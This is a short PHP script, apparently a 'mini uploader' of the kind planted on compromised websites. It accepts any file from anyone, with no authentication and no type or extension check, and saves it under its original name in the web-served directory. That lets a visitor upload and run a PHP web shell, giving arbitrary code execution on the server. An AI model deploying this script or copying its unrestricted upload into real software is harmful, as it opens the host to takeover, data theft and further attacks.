<?php
// 2020 mini uploader
$x = $_FILES['x'];
if ($x && $x['error'] == 0) {
    $to = __DIR__ . '/' . basename($x['name']);
    if (move_uploaded_file($x['tmp_name'], $to)) { echo '<a href="' . basename($to) . '">' . basename($to) . '</a>'; }
}
echo '<form method="post" enctype="multipart/form-data"><input type="file" name="x"><button>go</button></form>';
